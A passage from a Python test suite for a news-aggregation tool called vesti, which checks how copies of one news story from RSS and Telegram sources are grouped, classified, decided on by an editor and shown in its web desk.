    assert "the database server cannot be reached; waiting for it" in err
    assert "stopped waiting" not in err and "trying again" not in err, err


# Schema and migrations: posts claimed before leases existed -------------------

def test_posts_left_processing_by_a_database_from_before_leases_are_classified(home):
    old = sqlite3.connect(home / "vesti.db")
    old.execute("CREATE TABLE posts (id INTEGER PRIMARY KEY, source_id INTEGER, text TEXT, "
                "classified INTEGER)")
    old.executemany("INSERT INTO posts (source_id, text, classified) VALUES (1, ?, ?)",
                    [(f"Old news {k} about the Linux kernel.", -1 if k < 5 else 0)
                     for k in range(8)])
    old.commit()
    old.close()
    s, db = intake(home, [rss_source("old", "http://x.test/feed")])
    columns = {r["name"] for r in db.conn().execute("PRAGMA table_info(posts)")}
    assert {"claimed_at", "claim_token", "attempts", "next_attempt_at"} <= columns
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=2, quiet=True)
    assert queue_of(db) == {1: 8}
    assert {r[0] for r in db.conn().execute("SELECT direction FROM posts")} == {"linux"}


# Stories ----------------------------------------------------------------------

sys.path.insert(0, str(ROOT / "tests" / "fixtures"))
import story_set  # noqa: E402


@pytest.mark.slow
def test_stories_on_the_labelled_set_keep_precision_and_recall(tmp_path):
    """Pairs built from the real corpus: rewrites, teasers and reposts are one
    story; template releases, other stories of one feed and digests are not."""
    pairs = story_set.labelled_pairs(str(CORPUS))
    kinds = {kind for kind, _, _, _ in pairs}
    assert {"teaser", "repost", "release template", "same-day digests"} <= kinds
    assert sum(same for _, same, _, _ in pairs) > 200 and sum(not s for _, s, _, _ in pairs) > 200
    precision, recall, by_kind = story_set.measure(pairs, str(tmp_path / "stories.db"))
    assert precision >= 0.99, by_kind            # reached: 1.0
    # Reached: 0.952; a changed sentence that brings a link of its own (a
    # video's) is classified on its own (see vesti.adds_to).
    assert recall >= 0.95, by_kind


STORY = ("The city council approved the new budget for public transport on Tuesday evening "
         "after a long debate. The plan adds forty buses, extends two tram lines to the "
         "northern districts and freezes ticket prices until the end of next year. "
         "Opposition members said the money should have gone to road repairs instead.")
OTHER = ("A rare comet will be visible to the naked eye this weekend in the northern "
         "hemisphere, astronomers said. The best time to look is one hour before dawn, "
         "low above the eastern horizon, far from city lights.")


def story_home(home, ollama_url, **settings):
    sources = [rss_source(slug, f"http://{slug}.example/feed", name=name) for slug, name in
               (("wire", "City Wire"), ("daily", "The Daily"), ("radio", "Radio One"))]
    write_sources(home / "sources.yaml", sources)
    text = (home / "sources.yaml").read_text().replace("keywords: [", "keywords: [budget, comet, ")
    (home / "sources.yaml").write_text(text)
    s = make_settings(home, OLLAMA_URL=ollama_url, **settings)
    registry, db = vesti.open_intake(s)
    return s, db, registry


def add_copy(conn, source_slug, title, text, published):
    source = conn.execute("SELECT id FROM sources WHERE slug = ?", (source_slug,)).fetchone()[0]
    return conn.execute("""INSERT INTO posts (source_id, title, text, url, canonical_url,
                           published_at, classified) VALUES (?, ?, ?, ?, ?, ?, 0) RETURNING id""",
                        (source, title, text, f"http://{source_slug}.example/{published}",
                         f"http://{source_slug}.example/{published}", published)).fetchone()[0]


@both
def test_copies_of_one_story_cost_one_llm_call_and_make_one_card(home, closing):
    fake = closing(FakeOllama())
    s, db, registry = story_home(home, fake.url)
    conn = db.conn()
    first = add_copy(conn, "wire", "Council approves transport budget", STORY, "2026-12-01 08:00:00")
    add_copy(conn, "daily", "Forty new buses for the city",
             "From our correspondent: " + STORY + " Read more on our site.", "2026-12-01 08:30:00")
    add_copy(conn, "radio", "", STORY[:300] + "\n\nИсточник: @citywire", "2026-12-01 09:00:00")
    comet = add_copy(conn, "radio", "Comet this weekend", OTHER, "2026-12-01 09:30:00")
    stats, _ = vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert stats.done == 4
    assert sorted(fake.titles()) == ["Comet this weekend", "Council approves transport budget"]
    rows = conn.execute("SELECT id, story_id, direction, relevance, summary FROM posts "
                        "ORDER BY id").fetchall()
    assert [r["story_id"] for r in rows] == [first, first, first, comet]
    assert len({(r["direction"], r["relevance"], r["summary"]) for r in rows[:3]}) == 1
    report = vesti.status_report(conn)
    assert report["stories"] == {"stories": 1, "joined": 2, "llm_calls_saved": 2}
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    page = web.get("/?min=0")[2]
    assert card_ids(page) == [comet, first]                      # one card per story
    story = re.search(rf'id="post-{first}".*?</article>', page, re.S)[0]
    assert "+2 sources" in story and story.index("The Daily") < story.index("Radio One")
    every = re.search(r'href="(/\?[^"]*story=\d+[^"]*)"', story)[1]
    assert card_ids(web.get(html.unescape(every))[2]) == [first + 2, first + 1, first]
    status, _, body = web.post(f"/posts/{first}/status",
                               {"status": "approved", "token": web.token()},
                               headers={"Accept": "application/json"})
    assert status == 200 and json.loads(body)["status"] == "approved"
    assert list(statuses(conn).values()) == \
        ["approved", "approved", "approved", "new"]
    metrics = web.get("/metrics")[2]
    assert "vesti_llm_calls_saved_total 2" in metrics and "vesti_stories 1" in metrics
    page = web.get("/?min=0&status=any")[2]
    assert facet(page, "statuses", "approved") == 1 and facet(page, "statuses", "to decide") == 1
    assert counts_match_posts(conn)


@both
def test_a_sources_list_shows_its_copies_and_a_copy_decides_its_story(home, closing):
    s, db, registry = story_home(home, "")
    conn = db.conn()
    first = add_copy(conn, "wire", "Council approves transport budget", STORY, "2026-12-01 08:00:00")
    copy = add_copy(conn, "daily", "Forty new buses", "Our correspondent: " + STORY,
                    "2026-12-01 08:30:00")
    other = add_copy(conn, "daily", "Comet this weekend", OTHER, "2026-12-01 09:30:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert post_row(conn, copy)["story_id"] == first
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    page = web.get("/?min=0&source=daily")[2]
    assert card_ids(page) == [other, copy]                 # the copy is the daily's post
    assert facet(page, "statuses", "to decide") == 2
    card = re.search(rf'id="post-{copy}".*?</article>', page, re.S)[0]
    assert "+1 source:" in card and "City Wire" in card
    status, _, _ = web.post(f"/posts/{copy}/status", {"status": "approved",
                                                      "token": web.token()})
    assert status == 303
    assert list(statuses(conn).values()) == \
        ["approved", "approved", "new"]
    feed = json.loads(web.get("/approved.json")[2])
    assert [item["title"] for item in feed["items"]] == ["Council approves transport budget"]
    crawlers = web.get("/crawlers")[2]
    assert counts_match_posts(conn)
    approved = dict(conn.execute("SELECT slug, approved FROM sources"))
    assert approved == {"wire": 1, "daily": 1, "radio": 0} and "The Daily" in crawlers


@both
def test_a_post_edited_out_of_an_approved_story_leaves_it_and_the_story_keeps_its_words(home,
                                                                                        closing):
    channels = {"wirechan": STORY, "dailychan": "From our correspondent: " + STORY,
                "radiochan": STORY[:300] + "\n\nИсточник: @citywire"}
    write_sources(home / "sources.yaml", [{"slug": name[:-4], "crawler": "telegram",
                                           "url": f"@{name}", "priority": k}
                                          for k, name in enumerate(channels)])
    text = (home / "sources.yaml").read_text().replace("keywords: [", "keywords: [budget, ")
    (home / "sources.yaml").write_text(text)
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret")))
    s, db, conn = web.settings, web.db, web.db.conn()
    posted = recent(60)
    fake = FakeTelegram(channels={name: [tg.Message(id=1, peer_id=tg.PeerChannel(1001),
                                                    date=posted, message=message)]
                                  for name, message in channels.items()})
    crawl_tg(s, db, fake)
    vesti.run_workers(db, s, web.registry, workers=1, quiet=True)
    lead, copy, other = post_ids(conn)
    assert set(story_ids(conn)) == {lead}
    web.post(f"/posts/{lead}/status", {"token": web.token(), "status": "approved"})

    def approved():
        return [item["url"] for item in json.loads(web.get("/approved.json")[2])["items"]]
    assert approved() == ["https://t.me/wirechan/1"]
    # Other words in the same story: a card of its own all the same, to decide again.
    fake.channels["radiochan"] = [tg_edited(1, channels["radiochan"] + ", обновлено",
                                            posted, 5)]
    crawl_tg(s, db, fake)
    vesti.run_workers(db, s, web.registry, workers=1, quiet=True)
    story = card_of(web.get("/?status=approved")[2], lead)
    assert "+1 source:" in story and "radio" not in story
    assert approved() == ["https://t.me/wirechan/1"]
    assert "Edited after your decision" in card_of(web.get("/")[2], other)
    spam = "Budget tip: cheap pills and casino bonuses at https://spam.example, order today!"
    fake.channels["wirechan"] = [tg_edited(1, spam, posted, 6)]
    crawl_tg(s, db, fake)
    vesti.run_workers(db, s, web.registry, workers=1, quiet=True)
    assert approved() == ["https://t.me/dailychan/1"]     # the copy's own words
    row = post_row(conn, copy)
    assert (row["status"], row["story_id"]) == ("approved", copy)
    page = web.get("/")[2]
    assert {lead, other} <= set(card_ids(page)) and "+1 source" not in page
    assert "Edited after your decision" in card_of(page, lead)
    assert counts_match_posts(conn)


@both
def test_copies_in_one_batch_of_keyword_verdicts_make_one_story(home):
    """Batches grow 1, 2, 4 posts: the three copies (posts 4-6) are written
    in one transaction, and still end in one story, counted as one card."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    ids = [add_copy(conn, "wire", f"Comet {k}", f"{OTHER} Observation {k}.", f"2026-12-01 0{k}:00:00")
           for k in range(3)]
    ids += [add_copy(conn, slug, "Budget", prefix + STORY, f"2026-12-01 0{k}:30:00")
            for k, (slug, prefix) in enumerate((("wire", ""), ("daily", "Our correspondent: "),
                                                ("radio", "Repost: ")))]
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    stories = story_ids(conn)
    assert stories == ids[:4] + [ids[3], ids[3]]
    assert vesti.story_figures(conn)["joined"] == 2 and counts_match_posts(conn)


@both
def test_two_copies_classified_at_once_make_one_story_and_one_llm_call(home, closing):
    fake = closing(FakeOllama(latency=0.5))
    s, db, registry = story_home(home, fake.url)
    conn = db.conn()
    first = add_copy(conn, "wire", "Council approves transport budget", STORY, "2026-12-01 08:00:00")
    add_copy(conn, "daily", "Budget approved", STORY + " Subscribe to our newsletter.",
             "2026-12-01 08:01:00")
    stats, _ = vesti.run_workers(db, s, registry, workers=2, limit=2, quiet=True)
    assert queue_of(db) == {1: 2} and len(fake.titles()) == 1      # the copy waited
    assert stats.done == 2 and stats.returned == 0
    rows = conn.execute("SELECT id, story_id FROM posts ORDER BY id").fetchall()
    leader = rows[0]["story_id"]                    # whichever worker got there first
    assert leader in (first, first + 1) and [r["story_id"] for r in rows] == [leader, leader]


@both
def test_a_copy_waiting_for_its_story_is_claimable_once_the_story_has_its_verdict(home):
    s, db, registry = story_home(home, "")
    conn = db.conn()
    lead = add_copy(conn, "wire", "Budget", STORY, "2026-12-01 08:00:00")
    copy = add_copy(conn, "daily", "Budget", "Repost: " + STORY, "2026-12-01 08:01:00")
    later = vesti.utc_text(time.time() + 60)
    conn.execute("UPDATE posts SET story_id = ?, next_attempt_at = ? WHERE id = ?",
                 (lead, later, copy))
    assert vesti.wake_story_copies(conn, [copy]) == []          # the story has no verdict yet
    conn.execute("UPDATE posts SET classified = 1 WHERE id = ?", (lead,))
    assert vesti.wake_story_copies(conn, [copy]) == [copy]
    assert vesti.claim_posts(conn, 5)[0].id == copy


@both
def test_a_different_release_from_one_template_is_another_story(home):
    s, db, registry = story_home(home, "")
    conn = db.conn()
    text = ("QEMU {v} released. The QEMU team is pleased to announce version {v}, with new "
            "devices, faster migration on Linux hosts and many fixes; see the changelog for "
            "details on {v}.")
    one = add_copy(conn, "wire", "QEMU 10.0.0", text.format(v="10.0.0"), "2026-12-01 08:00:00")
    two = add_copy(conn, "daily", "QEMU 10.1.0", text.format(v="10.1.0"), "2026-12-01 09:00:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert story_ids(conn) == [one, two]


@both
def test_posts_of_no_direction_and_stories_turned_off_make_no_story(home):
    s, db, registry = story_home(home, "")
    conn = db.conn()
    noise = "Weather: a dry and sunny day with light winds from the west, " * 3
    add_copy(conn, "wire", "Weather", noise, "2026-12-01 08:00:00")
    add_copy(conn, "daily", "Weather", noise + "More tomorrow.", "2026-12-01 08:10:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert story_ids(conn) == [None, None]
    assert conn.execute("SELECT count(*) FROM story_keys").fetchone()[0] == 0
    off = s.replace(story_hours=0)
    add_copy(conn, "wire", "Budget", STORY, "2026-12-01 09:00:00")
    add_copy(conn, "daily", "Budget", STORY + " More soon.", "2026-12-01 09:10:00")
    vesti.run_workers(db, off, registry, workers=1, quiet=True)
    assert queue_of(db) == {1: 4}
    assert story_ids(conn) == [None] * 4


@both
def test_a_teaser_whose_article_another_feed_carries_joins_that_story(home, server):
    page = CORPUS / "html" / "bbc.com.52241221.html"
    server.routes["/article"] = lambda request: (200, {"Content-Type": "text/html"},
                                                 page.read_bytes())
    article = vesti.extract_article(page.read_bytes(), server.url + "/article")
    s, db = intake(home, [rss_source("wire", "http://wire.example/feed"),
                          rss_source("daily", server.url + "/feed")])
    conn = db.conn()
    full = add_copy(conn, "wire", "New York from above", article, "2026-12-01 08:00:00")
    teaser = conn.execute("""INSERT INTO posts (source_id, title, text, url, content_type,
                             published_at, classified) VALUES (2, 'Drone over the city',
                             'Drone footage from the city.', ?, 'summary', '2026-12-01 09:00:00', 0)
                             RETURNING id""", (server.url + "/article",)).fetchone()[0]
    sources = home / "sources.yaml"           # the article is news of a direction
    sources.write_text(sources.read_text().replace("[rocket, orbit]", "[rocket, orbit, coronavirus]"))
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=1, quiet=True)
    assert server.sent("/article")                          # the teaser's article was read
    rows = stored_posts(conn)
    assert rows[teaser]["story_id"] == full
    assert (rows[teaser]["relevance"], rows[teaser]["summary"]) == \
        (rows[full]["relevance"], rows[full]["summary"])


# A copy's own words: as many sentences again as the story's (an advert).
ADVERT = (" Our partners also want you to know that the best mortgage rates in town are "
          "waiting at the agency on the main square, where friendly advisers will help you "
          "choose a plan and sign the papers in one visit, with no fees this month only.")


@both
@pytest.mark.parametrize("asked", ["llm", "keywords"])
def test_a_copy_that_adds_a_link_joins_its_story_but_one_with_sentences_stands_alone(home, asked,
                                                                                     closing):
    """A copy with a link (or a channel) of its own is in its story: it
    takes the story's verdict, is decided with it, and its card names the
    link as the copy's own; but the card, the approved feed and what is
    published are the story's first post. A copy with much text of its own
    is no copy: classified on its own words, a card of its own."""
    fake = closing(FakeOllama())
    s, db, registry = story_home(home, fake.url if asked == "llm" else "")
    conn = db.conn()
    first = add_copy(conn, "wire", "Council approves transport budget", STORY,
                     "2026-12-01 08:00:00")
    joining = [add_copy(conn, slug, "Budget", text, f"2026-12-01 08:{n}0:00")
               for n, (slug, text) in enumerate([
                   ("daily", f"From our correspondent: {STORY} Read more on our site."),
                   ("radio", f"{STORY[:300]} Full story: https://wire.example/budget"),
                   ("daily", f"{STORY}\n\nИсточник: @citywire https://t.me/citywire/4821")], 1)]
    linked = add_copy(conn, "daily", "Budget news",
                      f"{STORY} Cheap loans: https://loans.example/offer", "2026-12-01 09:00:00")
    own = add_copy(conn, "radio", "Budget and mortgages", STORY + ADVERT, "2026-12-01 09:10:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    stories = stories_of(conn)
    assert [stories[post] for post in [first, *joining, linked, own]] == [first] * 5 + [own]
    adds = dict(conn.execute("SELECT id, adds FROM posts"))
    assert adds[linked] == "loans.example" and not any(adds[post] for post in joining)
    if asked == "llm":
        assert sorted(fake.titles()) == ["Budget and mortgages",
                                         "Council approves transport budget"]
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    page = web.get("/?min=0")[2]
    assert card_ids(page) == [own, first]
    card = re.search(rf'id="post-{first}".*?</article>', page, re.S)[0]
    assert "+4 sources" in card and "its own: loans.example" in card
    web.post(f"/posts/{first}/status", {"status": "approved", "token": web.token()})
    assert statuses(conn) == \
        {**{post: "approved" for post in [first, *joining, linked]}, own: "new"}
    feed = json.loads(web.get("/approved.json")[2])
    assert [item["id"] for item in feed["items"]] == [str(first)]
    assert counts_match_posts(conn)


@both
def test_a_copy_with_a_link_of_its_own_never_leads_even_from_an_established_source(home):
    """An established source's copy takes over a new source's story, unless
    it adds a link of its own: then the story stays led by its first post,
    and only that post is published or alerted for the story."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    read_for_a_month(conn, "daily")
    first = add_copy(conn, "wire", "Council approves transport budget", STORY, "2026-12-01 08:00:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    advert = add_copy(conn, "daily", "Budget", f"{STORY}\n\nПодписывайтесь: @casino_bonus",
                      "2026-12-01 08:30:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    rows = {row["id"]: row for row in conn.execute("SELECT id, story_id, adds FROM posts")}
    assert rows[advert]["story_id"] == first and rows[first]["story_id"] == first
    assert rows[advert]["adds"] == "t.me/casino_bonus"
    with open(home / "sources.yaml", "a", encoding="utf-8") as f:
        f.write("publish:\n" + yaml.safe_dump([{"name": "channel", "telegram": "@vesti_test"}]))
    registry, db = vesti.open_intake(s)
    vesti.set_decisions(conn, [advert], "approved", "editor")      # decided on the copy: the story
    assert [row["post_id"] for row in conn.execute("SELECT post_id FROM publications")] == [first]


@both
def test_copies_of_a_cut_short_post_or_of_a_telegram_post_keep_the_links_they_add_as_their_own(home):
    """A first post cut short ("…") lets its article go on where it stops,
    and a repost links to the channel it names as its source, or to the
    story's own: those add nothing. A copy that links to another site, or
    to another channel's post, is in the story with that link as its own;
    deciding the story decides it, and the story's card is the first post."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    teaser = add_copy(conn, "wire", "Budget", STORY[:180] + "…", "2026-12-01 08:00:00")
    told = add_copy(conn, "wire", "Comet this weekend", OTHER, "2026-12-01 08:01:00")
    conn.execute("UPDATE posts SET url = 'https://t.me/skywire/7' WHERE id = ?", (told,))
    joining = {teaser: [add_copy(conn, "daily", "Budget", STORY, "2026-12-01 08:10:00")],
               told: [add_copy(conn, slug, "Comet", text, f"2026-12-01 08:{n}0:00")
                      for n, (slug, text) in enumerate([
                          ("daily", f"{OTHER}\n\nhttps://t.me/skywire/7"),
                          ("radio", f"{OTHER}\n\nИсточник: @skynews https://t.me/skynews/12")], 2)]}
    adding = {add_copy(conn, slug, "Budget or comet", text, f"2026-12-01 09:{n}0:00"): (story, sites)
              for n, (slug, text, story, sites) in enumerate([
                  ("radio", f"{STORY[:180]}… Cheap loans: https://loans.example/offer", teaser,
                   "loans.example"),
                  ("daily", f"{OTHER}\n\nПодписывайтесь: @casino https://t.me/casino/77", told,
                   "t.me/casino"),
                  ("radio", f"{OTHER}\n\nИсточник: @skynews https://t.me/bonus/5", told,
                   "t.me/bonus")])}
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    rows = {row["id"]: row for row in conn.execute("SELECT id, story_id, adds, status FROM posts")}
    assert {post: rows[post]["story_id"] for story, posts in joining.items() for post in posts} == \
        {post: story for story, posts in joining.items() for post in posts}
    assert not any(rows[post]["adds"] for posts in joining.values() for post in posts)
    assert {post: (rows[post]["story_id"], rows[post]["adds"]) for post in adding} == adding
    assert rows[teaser]["story_id"] == teaser and rows[told]["story_id"] == told
    vesti.set_decisions(conn, [teaser, told], "approved", "editor")
    decided = statuses(conn)
    assert [decided[post] for post in adding] == ["approved"] * len(adding)


def read_for_a_month(conn, *slugs):
    """Sources with a month of history: an established source's first post
    was fetched weeks ago (the others of story_home are new)."""
    month_ago = vesti.utc_text(time.time() - 30 * 86400)
    for slug in slugs:
        old = add_copy(conn, slug, "Weather", "Sunny and dry all day.", "2026-11-01 08:00:00")
        conn.execute("UPDATE posts SET fetched_at = ? WHERE id = ?", (month_ago, old))


@both
@pytest.mark.parametrize("asked", ["llm", "keywords"])
def test_a_story_is_led_by_its_copy_from_an_established_source(home, asked, closing):
    """A story a new source told first is led by the copy of a source read
    for weeks, while nobody has decided it: its card and the approved feed
    show the established source's post. A decided story keeps its card."""
    fake = closing(FakeOllama())
    s, db, registry = story_home(home, fake.url if asked == "llm" else "")
    conn = db.conn()
    read_for_a_month(conn, "wire", "radio")
    first = add_copy(conn, "daily", "Budget approved", STORY, "2026-12-01 08:00:00")
    decided = add_copy(conn, "daily", "Comet this weekend", OTHER, "2026-12-01 08:10:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    vesti.set_decisions(conn, [decided], "rejected", "editor")
    copy = add_copy(conn, "wire", "Council approves transport budget",
                    "Our correspondent: " + STORY, "2026-12-01 08:30:00")
    later = add_copy(conn, "radio", "Comet", "Repost: " + OTHER, "2026-12-01 08:40:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    stories = stories_of(conn)
    assert [stories[post] for post in (first, copy, decided, later)] == \
        [copy, copy, decided, decided]
    if asked == "llm":
        assert sorted(fake.titles()) == ["Budget approved", "Comet this weekend"]
    assert vesti.story_figures(conn)["joined"] == 2 and counts_match_posts(conn)
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    page = web.get("/?min=0")[2]
    assert copy in card_ids(page) and first not in card_ids(page)
    card = re.search(rf'id="post-{copy}".*?</article>', page, re.S)[0]
    assert "+1 source:" in card and "The Daily" in card
    web.post(f"/posts/{copy}/status", {"status": "approved", "token": web.token()})
    feed = json.loads(web.get("/approved.json")[2])
    assert [item["title"] for item in feed["items"]] == ["Council approves transport budget"]


@both
def test_an_established_sources_post_does_not_join_a_new_sources_post_that_adds_to_it(home):
    """A new source's post with a link of its own around the story (told
    before the established source's) is not a story the established post
    joins, takes the verdict of or is decided with."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    read_for_a_month(conn, "wire")
    advert = add_copy(conn, "daily", "Budget news",
                      f"{STORY} Cheap loans: https://loans.example/offer", "2026-12-01 08:00:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    told = add_copy(conn, "wire", "Council approves transport budget", STORY, "2026-12-01 08:30:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    stories = stories_of(conn)
    assert (stories[advert], stories[told]) == (advert, told)
    vesti.set_decisions(conn, [advert], "rejected", "editor")
    assert post_row(conn, told)["status"] == "new"


@both
@pytest.mark.parametrize("second", ["established", "new"])
def test_a_story_taken_over_while_a_copy_joins_it_stays_one_card(home, ollama, monkeypatch,
                                                                  second, closing):
    """Two copies of a new source's story classified at once: the second
    copy enters the story and takes it over (an established source) after
    the first entered it and before the first takes the story's verdict.
    The story is one card all the same, every copy under it, decided as one."""
    s, db, registry = story_home(home, ollama.url)
    conn = db.conn()
    read_for_a_month(conn, "radio", *(["wire"] if second == "established" else []))
    first = add_copy(conn, "daily", "Budget approved", STORY, "2026-12-01 08:00:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    copies = [add_copy(conn, slug, "Budget", f"{prefix}: {STORY}", f"2026-12-01 08:{n}0:00")
              for n, (slug, prefix) in enumerate((("wire", "Our correspondent"),
                                                  ("radio", "Repost")), 1)]
    vesti.catch_up_index(conn)                                  # as a worker does
    early, late = vesti.claim_posts(conn, 2)
    classify, verdicts = vesti.Classifier(registry, s, db=db), {}
    lead_now = vesti.lead_now

    def late_copy_first(conn, story, post_id, verdict):
        if post_id == early.id and late.id not in verdicts:
            verdicts[late.id] = classify.prepare(late)
        return lead_now(conn, story, post_id, verdict)
    monkeypatch.setattr(vesti, "lead_now", late_copy_first)
    verdicts[early.id] = classify.prepare(early)
    vesti.complete_and_claim(conn, [(post, verdicts[post.id]) for post in (early, late)], 0)
    assert len(ollama.titles()) == 1                            # the first post's
    lead = copies[1]                                            # the radio's, read for a month
    stories = stories_of(conn)
    assert [stories[post] for post in (first, *copies)] == [lead] * 3
    assert sorted(r[0] for r in conn.execute(f"SELECT id FROM posts WHERE {vesti.copies_of()}",
                                             (lead,))) == [first, copies[0]]
    assert counts_match_posts(conn)
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    page = web.get("/?min=0")[2]
    assert set(card_ids(page)) & {first, *copies} == {lead}
    assert "+2 sources" in card_of(page, lead)
    web.post(f"/posts/{lead}/status", {"status": "approved", "token": web.token()})
    assert {r[0] for r in conn.execute("SELECT status FROM posts WHERE id IN (?, ?, ?)",
                                       (first, *copies))} == {"approved"}
    assert counts_match_posts(conn)


@both
def test_a_copy_joining_a_story_whose_first_post_is_edited_meanwhile_goes_on_with_it(
        home, ollama, monkeypatch):
    """The story's first post is edited (out of its story, see leave_story)
    after a copy entered the story and before the copy takes its verdict:
    the copy goes on with the story, under its other copy's card, not under
    the edited post."""
    s, db, registry = story_home(home, ollama.url)
    conn = db.conn()
    first = add_copy(conn, "wire", "Budget approved", STORY, "2026-12-01 08:00:00")
    older = add_copy(conn, "daily", "Budget", f"Repost: {STORY}", "2026-12-01 08:10:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    vesti.set_decisions(conn, [first], "approved", "editor")
    copy = add_copy(conn, "radio", "Budget", f"Our correspondent: {STORY}", "2026-12-01 08:20:00")
    vesti.catch_up_index(conn)                                  # as a worker does
    post, = vesti.claim_posts(conn, 1)
    lead_now = vesti.lead_now

    def edited_meanwhile(conn, story, post_id, verdict):
        row = post_row(conn, first)
        vesti.leave_story(conn, row)
        conn.execute("""UPDATE posts SET status = 'new', old_decision = status, text = ?,
                        story_id = id WHERE id = ?""", ("Budget tip: casino bonuses!", first))
        return lead_now(conn, story, post_id, verdict)
    monkeypatch.setattr(vesti, "lead_now", edited_meanwhile)
    vesti.complete_and_claim(conn, [(post, vesti.Classifier(registry, s, db=db).prepare(post))], 0)
    stories = stories_of(conn)
    assert [stories[p] for p in (first, older, copy)] == [first, older, older]
    assert counts_match_posts(conn)


@both
def test_a_post_edited_after_its_decision_stays_its_card_when_a_copy_joins_it(home, closing):
    """A post edited after a decision is on the desk to be decided again,
    marked: an established source's copy joining its story does not take
    it over, which would hide it under that copy's card."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    read_for_a_month(conn, "wire")
    edited = add_copy(conn, "daily", "Budget approved", STORY, "2026-12-01 08:00:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    vesti.set_decisions(conn, [edited], "approved", "editor")
    # As an edit in other words leaves it (see reword_post), classified again.
    conn.execute("""UPDATE posts SET status = 'new', old_decision = status, old_decided_at =
                    decided_at, old_decided_by = decided_by, old_title = title, old_text = text,
                    decided_at = NULL, decided_by = NULL, text = ?, story_id = id
                    WHERE id = ?""", (STORY + " Updated.", edited))
    copy = add_copy(conn, "wire", "Council approves transport budget",
                    f"Our correspondent: {STORY} Updated.", "2026-12-01 08:30:00")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    stories = stories_of(conn)
    assert (stories[edited], stories[copy]) == (edited, edited)
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    card = card_of(web.get("/?min=0")[2], edited)
    assert "Edited after your decision" in card and "+1 source" in card
    assert counts_match_posts(conn)


@both
def test_a_story_of_many_copies_names_ten_of_them_and_counts_the_rest(home, closing):
    """A card names the first ten other posts of its story and counts the
    rest; its "every copy" page pages as the desk does."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    first = add_copy(conn, "wire", "Council approves transport budget", STORY, "2026-12-01 08:00:00")
    copies = [add_copy(conn, ("daily", "radio")[n % 2], "Budget", "Repost: " + STORY,
                       f"2026-12-01 09:{n:02}:00") for n in range(60)]
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert set(story_ids(conn)) == {first}
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    line = re.search(r'<p class="small story">(.*?)</p>', web.get("/?min=0")[2], re.S)[1]
    assert line.startswith("+60 sources: ") and " and 50 more · " in line, line[-300:]
    named = re.findall(r'<a href="(http[^"]*)"', line)
    assert named == [f"http://{('daily', 'radio')[n % 2]}.example/2026-12-01 09:{n:02}:00"
                     for n in range(10)]
    russian = re.search(r'<p class="small story">(.*?)</p>', web.get("/?min=0&lang=ru")[2],
                        re.S)[1]
    assert russian.startswith("ещё 60 источников: ") and " и ещё 50 · " in russian, \
        russian[-300:]
    # A copy's card, in its source's list, names the story's first post first.
    radio = web.get("/?min=0&source=radio")[2]
    card = re.search(rf'id="post-{copies[1]}".*?</article>', radio, re.S)[0]
    assert "+60 sources: " in card and " and 50 more" in card
    assert card.index("wire.example") < card.index("daily.example")
    every = html.unescape(re.search(r'href="(/\?[^"]*story=\d+[^"]*)"', line)[1])
    story = web.get(every)[2]
    assert len(card_ids(story)) == vesti.PAGE_SIZE
    older = html.unescape(re.search(r'href="([^"]*)" rel="next"', story)[1])
    assert sorted(card_ids(story) + card_ids(web.get(older)[2])) == [first, *copies]


def database_work(conn, call, table="story_keys"):
    """What `call` costs the database, in a unit that grows with the rows it
    reads: SQLite's virtual machine steps (in hundreds); PostgreSQL's rows
    of `table` its statements read, as EXPLAIN ANALYZE counts them."""
    if conn.dialect is vesti.SQLITE:
        steps = [0]
        conn.set_progress_handler(lambda: steps.__setitem__(0, steps[0] + 1), 100)
        try:
            call()
        finally:
            conn.set_progress_handler(None, 0)
        return steps[0]
    statements, execute = [], conn.execute
    conn.execute = lambda sql, parameters=(): statements.append((sql, parameters)) or \
        execute(sql, parameters)
    try:
        call()
    finally:
        del conn.execute

    def rows_read(node):
        own = node["Actual Rows"] * node["Actual Loops"] \
            if node.get("Relation Name") == table else 0
        return own + sum(map(rows_read, node.get("Plans", ())))

    def plan(sql, parameters):
        return execute(f"EXPLAIN (ANALYZE, FORMAT JSON) {sql}", parameters).fetchone()[0][0]["Plan"]
    return sum(rows_read(plan(sql, parameters)) for sql, parameters in statements
               if table in sql)


@pytest.mark.slow
@both
def test_a_key_thousands_of_posts_share_costs_a_look_up_no_more_than_a_rare_one(home):
    """A flood of near-identical posts: a look-up reads the newest few posts
    of each of its keys, however many share it, and a copy still finds its
    story."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    lead = add_copy(conn, "wire", "Budget", STORY, "2026-12-01 08:00:00")
    keys = vesti.story_keys(vesti.story_words("Budget", STORY))
    work = {}
    for flood in (50, 2000):
